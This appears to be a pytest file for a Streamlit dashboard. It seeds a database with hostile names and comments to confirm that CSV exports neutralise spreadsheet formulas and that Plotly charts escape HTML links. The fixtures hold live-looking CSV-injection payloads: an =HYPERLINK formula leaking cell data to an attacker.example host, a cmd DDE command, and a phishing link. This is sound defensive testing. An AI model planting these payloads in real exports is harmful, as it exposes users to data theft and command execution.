"""Output that could carry an attack, on every page of a world whose names and comments are
hostile (issue 17, findings 6 and 7): every CSV download neutralises formula-like text cells,
and every chart gets names as escaped text, never markup Plotly would draw as a link."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
from collections.abc import Iterator
from typing import Any

import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from dashboard import registry
from tests.pages.test_pages_render import ENTRY
from tests.worlds import demo_world_url

LINK = '<a href="https://attacker.example/login">x</a>'
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)", "-2+3", "\tTAB", "\rCR"]  # fmt: skip
PAGES = [spec.stem for spec in registry.PAGES if spec.stem != "respond"]


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    return hostile_world(tmp_path_factory)


def hostile_world(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The demo world with a team and a category that are links, a category `=1+1`, agents,
    a segment and every comment that start a formula."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.db"
    shutil.copyfile(demo_world_url(tmp_path_factory).removeprefix("sqlite:///"), path)
    with sqlite3.connect(path) as db:
        team = db.execute("SELECT min(team) FROM agents").fetchone()[0]
        db.execute("UPDATE agents SET team = ? WHERE team = ?", (LINK, team))
        db.execute("UPDATE survey_invitations SET team = ? WHERE team = ?", (LINK, team))
        first, second = (r[0] for r in db.execute(
            "SELECT DISTINCT category FROM conversations WHERE category IS NOT NULL "
            "ORDER BY category LIMIT 2"))  # fmt: skip
        db.execute("UPDATE conversations SET category = ? WHERE category = ?", (LINK, first))
        db.execute("UPDATE conversations SET category = '=1+1' WHERE category = ?", (second,))
        db.execute("UPDATE agents SET name = '@SUM(1+1)' WHERE id % 2 = 0")
        segment = db.execute("SELECT min(segment) FROM customers").fetchone()[0]
        db.execute("UPDATE customers SET segment = '-2+3' WHERE segment = ?", (segment,))
        for index, formula in enumerate(FORMULAS):
            db.execute(
                "UPDATE survey_responses SET comment = ? WHERE comment IS NOT NULL AND id % ? = ?",
                (formula, len(FORMULAS), index),
            )
    return f"sqlite:///{path}"


@pytest.fixture
def downloads(hostile_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """Each download button's file name and data, as the page handed them to Streamlit."""
    monkeypatch.setenv("VIGIL_DATABASE_URL", hostile_url)
    taken: dict[str, Any] = {}
    button = st.download_button

    def recording(label: str, data: Any, file_name: str, *args: Any, **kwargs: Any) -> Any:
        taken[file_name] = data
        return button(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", recording)
    yield taken


def open_everything(stem: str) -> AppTest:
    """The page in English, every "List conversations" drill-down switched on."""
    app = AppTest.from_file(ENTRY, default_timeout=90)
    app.query_params["lang"] = "en"
    app.run()
    app.switch_page(f"../pages/{stem}.py").run()
    toggles = [t for t in app.toggle if str(t.key).endswith("_drill_on")]
    for toggle in toggles:
        toggle.set_value(True)
    return app.run() if toggles else app


def as_text(data: Any) -> str:
    """A download's data as text: called when lazy, decoded (BOM and all) when bytes."""
    data = data() if callable(data) else data
    return data.decode("utf-8-sig") if isinstance(data, bytes) else str(data)


def formula_cells(data: Any) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ tab or CR and not a number."""
    text = as_text(data)
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


@pytest.mark.parametrize("stem", PAGES)
def test_every_csv_download_neutralises_formulas(stem: str, downloads: dict[str, Any]) -> None:
    app = open_everything(stem)
    assert not app.exception, [e.value for e in app.exception]
    csvs = {name: data for name, data in downloads.items() if name.endswith(".csv")}
    assert csvs, f"no CSV download on {stem}"
    for name, data in csvs.items():
        assert formula_cells(data) == [], name
    if stem == "voice":
        comments = as_text(downloads["voice-comments.csv"])
        assert "'=HYPERLINK(" in comments and "'+cmd|" in comments and "'@SUM(1+1)" in comments


@pytest.mark.parametrize("stem", ["csat", "voice", "fcr"])
def test_names_reach_plotly_escaped(stem: str, downloads: dict[str, Any]) -> None:
    app = open_everything(stem)
    assert not app.exception, [e.value for e in app.exception]
    specs = [chart.proto.spec for chart in app.get("plotly_chart")]
    assert specs
    assert not any("<a href" in spec or "<a href" in spec.replace("\\u003c", "<") for spec in specs)
    assert any("&lt;a href=" in spec for spec in specs), f"no hostile name drawn on {stem}"
